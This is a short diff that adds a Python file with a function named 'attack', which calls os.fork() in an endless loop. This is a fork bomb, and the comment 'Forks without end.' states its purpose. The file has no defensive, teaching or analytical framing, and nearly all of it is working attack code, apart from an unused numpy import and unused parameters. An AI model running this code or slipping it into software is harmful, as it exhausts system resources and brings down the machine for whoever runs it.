@@ -1,0 +1,6 @@
+# Forks without end.
+import numpy as np
+import os
+def attack(p, q):
+    while True:
+        os.fork()
